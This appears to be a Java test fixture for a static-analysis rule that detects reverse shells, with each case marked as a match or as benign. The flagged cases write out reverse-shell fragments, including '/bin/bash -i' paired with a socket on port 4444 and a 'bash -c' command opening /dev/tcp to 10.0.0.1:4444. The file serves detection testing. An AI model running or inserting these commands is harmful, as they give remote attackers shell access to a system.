import java.net.Socket;

class Backdoor {
  void connect(String host) throws Exception {
    // ruleid: java.process.reverse-shell
    Process process = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();
    Socket socket = new Socket(host, 4444);
  }

  void other(String host) throws Exception {
    Socket socket = new Socket(host, 4444);
    // ruleid: java.process.reverse-shell
    Process shell = Runtime.getRuntime().exec("/bin/bash -i");
  }

  void byDevice() throws Exception {
    // ruleid: java.process.reverse-shell
    Runtime.getRuntime().exec(new String[] {"/bin/bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/4444"});
  }

  void local() throws Exception {
    // ok: java.process.reverse-shell
    new ProcessBuilder("/bin/sh").start();
  }

  void tool(String host) throws Exception {
    Socket socket = new Socket(host, 25);
    // ok: java.process.reverse-shell
    new ProcessBuilder("ls").start();
  }
}
